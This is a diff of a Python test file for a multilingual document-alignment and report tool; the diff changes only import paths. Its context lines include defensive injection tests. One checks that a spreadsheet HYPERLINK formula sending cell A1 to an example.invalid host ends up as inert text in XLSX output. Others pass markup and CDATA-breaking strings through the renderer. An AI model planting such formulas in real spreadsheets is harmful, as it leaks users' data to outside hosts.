@@ -15,10 +15,10 @@ from pathlib import Path
 import pytest
 from lxml import etree
 
-from align import Document, OutputError, align, parse_text
-from align.comparison import compare
-from align.output import write_output
-from align.render import FORMATS, Format, format_for, render
+from resalign.align import Document, OutputError, align, parse_text
+from resalign.align.comparison import compare
+from resalign.align.output import write_output
+from resalign.align.render import FORMATS, Format, format_for, render
 from resalign.cli import main
 from tests.conftest import EN, ES, MODELED
 from tests.reports_fixtures import hostile_comparison, small_comparison
@@ -46,7 +46,7 @@ def test_golden(report_format: str, monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def small_translation():  # type: ignore[no-untyped-def]
-    from align import parse_text
+    from resalign.align import parse_text
     from tests.test_read_languages import CORPUS
 
     es, en = (parse_text(next(c.text for c in CORPUS if c.lang == code)) for code in ("es", "en"))
@@ -143,7 +143,7 @@ def test_tmx_is_valid_tmx_14b(es: Document, en: Document) -> None:
 
 
 def test_tmx_leaves_out_unpaired(es: Document) -> None:
-    from align import parse_text
+    from resalign.align import parse_text
 
     text = EN.read_text(encoding="utf-8")
     start = text.index("(f) To foster")
@@ -157,7 +157,7 @@ def test_tmx_leaves_out_unpaired(es: Document) -> None:
 
 def test_tmx_refuses_version_mode() -> None:
     """A usage error (exit 2), not an output error: nothing is wrong with the output file."""
-    from align.errors import UsageError
+    from resalign.align.errors import UsageError
 
     with pytest.raises(UsageError, match="TMX holds translations"):
         render(small_comparison(), "tmx")
@@ -195,7 +195,7 @@ def test_html_structure(es: Document, modeled: Document) -> None:
 
 
 def test_html_arabic_side_is_rtl() -> None:
-    from align import parse_text
+    from resalign.align import parse_text
     from tests.test_read_languages import CORPUS
 
     arabic = parse_text(next(c.text for c in CORPUS if c.lang == "ar"))
@@ -206,8 +206,8 @@ def test_html_arabic_side_is_rtl() -> None:
 
 def test_xlsx(tmp_path: Path, es: Document, en: Document, modeled: Document) -> None:
     openpyxl = pytest.importorskip("openpyxl")
-    from align.comparison import with_reviewed
-    from align.marks import seal
+    from resalign.align.comparison import with_reviewed
+    from resalign.align.marks import seal
 
     compared = compare(es, modeled, align(es, modeled))
     (pp4,) = [v for v in compared.views if v.pair.left == "PP4"]
@@ -366,7 +366,7 @@ La Asamblea General,
 
 
 def injected_comparison():  # type: ignore[no-untyped-def]
-    from align import parse_text
+    from resalign.align import parse_text
 
     left = parse_text(INJECTION, source="l.txt")
     right = parse_text(INJECTION.replace("actuar", "actuar ya"), source="r.txt")
@@ -399,7 +399,7 @@ def test_xlsx_parts_are_well_formed_and_hold_markup_as_text() -> None:
     from lxml import etree
     from openpyxl import load_workbook
 
-    from align import parse_text
+    from resalign.align import parse_text
 
     hostile = INJECTION.replace("pulse aquí", "pulse <b>&amp;</b> ]]> aquí")
     left = parse_text(hostile, source="l.txt")
@@ -413,7 +413,7 @@ def test_xlsx_parts_are_well_formed_and_hold_markup_as_text() -> None:
     assert (
         texts.count('=HYPERLINK("http://example.invalid/?"&A1,"pulse <b>&amp;</b> ]]> aquí"),') == 2
     )
-    from align.render.xlsx import _escaped
+    from resalign.align.render.xlsx import _escaped
 
     assert _escaped("a\x07b<c>&\ufffe") == "ab&lt;c&gt;&amp;"
 
@@ -453,7 +453,7 @@ def test_leftovers_of_a_killed_write_are_cleaned(tmp_path: Path) -> None:
     killed = subprocess.Popen(
         [sys.executable, "-c",
          "import sys, time\n"
-         "from align.output import open_output\n"
+         "from resalign.align.output import open_output\n"
          "with open_output(sys.argv[1]) as out:\n"
          "    out.write(b'half a report'); out.flush(); print('writing', flush=True)\n"
          "    time.sleep(60)\n",
@@ -517,7 +517,7 @@ def test_csv_for_excel_in_spanish_french_or_russian(tmp_path: Path) -> None:
 
 
 def _edited_pair():  # type: ignore[no-untyped-def]
-    from align import parse_text
+    from resalign.align import parse_text
 
     left = parse_text(
         INJECTION.replace("=HYPERLINK", "Recordando la resolución de 2015"), source="l"
@@ -579,7 +579,7 @@ def test_every_report_shows_a_split_and_a_merge_once(
 ) -> None:
     """The seed pair's split (PP24 → PP21+PP22) and merge (OP10+OP11 → OP10): one labelled
     entry each in every report, no key shown twice, and a move says where from and to."""
-    from align.render.terminal import terminal_diff
+    from resalign.align.render.terminal import terminal_diff
 
     comparison = compare(es, modeled, align(es, modeled))
     markdown = render(comparison, "md").decode()
@@ -603,7 +603,7 @@ def test_every_report_shows_a_split_and_a_merge_once(
 
 
 def test_html_marks_qa_values_and_footnote_calls_in_place(es: Document) -> None:
-    from align import parse_text
+    from resalign.align import parse_text
 
     en = parse_text(EN.read_text(encoding="utf-8").replace("30 July 2010", "30 July 2011"))
     page = render(compare(es, en, align(es, en)), "html").decode()
